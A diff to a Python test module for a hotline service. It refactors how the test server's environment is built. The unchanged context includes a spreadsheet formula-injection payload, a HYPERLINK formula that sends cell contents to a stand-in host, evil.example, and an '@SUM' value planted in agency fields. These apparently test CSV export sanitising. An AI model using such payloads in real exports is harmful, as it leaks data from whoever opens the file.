@@ -8,7 +8,6 @@ import contextlib
 import csv
 import html
 import io
-import os
 import re
 from collections.abc import AsyncIterator, Awaitable, Callable
 from dataclasses import replace
@@ -26,9 +25,10 @@ from storage.registry_csv import format_agencies, parse_agencies
 from storage.sample import sample_agencies
 from storage.tips import CATEGORIES
 from tests.console_helpers import sign_in
+from tests.processes import free_port, service_env
 from tests.test_cli import hotline
 from tests.test_console_uploads import upload
-from tests.test_faults import HOTLINE, free_port
+from tests.test_faults import HOTLINE
 
 PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
 AGENCY = replace(sample_agencies()[0], name=PLANTED, head_office_city="@SUM(1+1)", is_sample=False)
@@ -166,17 +166,13 @@ async def serve(database_url: str, tmp_path: Path) -> AsyncIterator[Serve]:
 
     async def start(**settings: str) -> int:
         port = free_port()
-        env = {
-            **os.environ,
-            "DATABASE_URL": database_url,
-            "HOTLINE_SECRET": "deploy-secret-0123456789",
-            "HOTLINE_CALLBACK_TOKEN": "deploy-callback-token-0123456789",
-            "HOTLINE_WORKER": "off",
-            "HOTLINE_DATA_DIR": str(tmp_path),
-            "PORT": str(port),
-            "LOG_LEVEL": "warning",
+        env = service_env(
+            database_url,
+            tmp_path,
+            port,
+            HOTLINE_CALLBACK_TOKEN="deploy-callback-token-0123456789",
             **settings,
-        }
+        )
         process = await asyncio.create_subprocess_exec(
             HOTLINE, "serve", env=env, stdout=asyncio.subprocess.DEVNULL
         )
